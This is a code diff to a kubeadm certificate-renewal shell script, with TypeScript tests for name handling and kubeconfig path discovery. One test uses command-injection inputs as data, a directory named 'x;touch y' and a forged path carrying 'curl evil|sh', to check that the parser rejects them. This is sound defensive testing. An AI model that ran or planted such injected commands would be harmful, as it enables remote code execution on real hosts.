@@ -26,7 +26,7 @@ set -e
 [ ! -e "$HERE/nothing" ] || { echo 'Detected external ca, it can not be renewed'; exit 0; }
 name=$3 pki=$5 subject=$(cat "$HERE/subject" 2>/dev/null || echo /O=system:masters/CN=someone)
 openssl req -new -newkey rsa:2048 -noenc -subj "$subject" -keyout "$HERE/new.key" -out "$HERE/request" 2>/dev/null
-printf 'subjectAltName=DNS:api.example.com,IP:10.0.0.1\\nextendedKeyUsage=serverAuth,clientAuth\\n' >"$HERE/extensions"
+printf '%s\\n' "subjectAltName=$(cat "$HERE/names" 2>/dev/null || echo DNS:api.example.com,IP:10.0.0.1)" extendedKeyUsage=serverAuth,clientAuth >"$HERE/extensions"
 openssl x509 -req -in "$HERE/request" -CA "$pki/ca.crt" -CAkey "$pki/ca.key" -set_serial "0x$(openssl rand -hex 8)" -days 365 -extfile "$HERE/extensions" -out "$HERE/new.crt" 2>/dev/null
 case $name in
 *.conf)
@@ -153,6 +153,29 @@ describeHere('a certificate of kubeadm, renewed', () => {
       expect(restore(certificate)).toEqual({ status: 0, stderr: '' });
     }
     expect(await state()).toEqual(before);
+  });
+
+  test('names count as a set: kubeadm sorts them, and drops those that are there twice; one that goes is noticed', async () => {
+    await writeFile(inside('names'), 'IP:10.0.0.1,DNS:api.example.com,DNS:api.example.com');
+    expect(renew(pair())).toEqual({ status: 0, stderr: '' });
+    await writeFile(inside('names'), 'IP:10.0.0.1');
+    expect(renew(pair())).toEqual({ status: 1, stderr: expect.stringContaining('has another name') as unknown });
+  });
+
+  test('of homes only plain names are told, and no links; what was not asked for is no answer', async () => {
+    for (const name of ['jane', 'x;touch y', 'linked']) await mkdir(inside(`home/${name}/.kube`), { recursive: true });
+    const text = await readFile(inside('k8s/admin.conf'));
+    for (const name of ['jane', 'x;touch y']) await writeFile(inside(`home/${name}/.kube/config`), text);
+    await symlink(inside('k8s/admin.conf'), inside('home/linked/.kube/config'));
+    const pattern = inside('home/*/.kube/config');
+    const shown = execFileSync('sh', ['-c', kubeconfigCertificates.script([pattern])], { encoding: 'utf8' });
+    const paths = kubeconfigCertificates
+      .parse(shown, [pattern])
+      .get(pattern)
+      ?.map(({ path }) => path);
+    expect(paths).toEqual([inside('home/jane/.kube/config')]);
+    const lie = `D 0\nC ${Buffer.from(inside('home/x;curl evil|sh;/.kube/config')).toString('base64')}\n`;
+    expect(() => kubeconfigCertificates.parse(lie, [pattern])).toThrow('not asked for');
   });
 
   test('killed between key and certificate, nobody sees a half; the next run ends it', async () => {
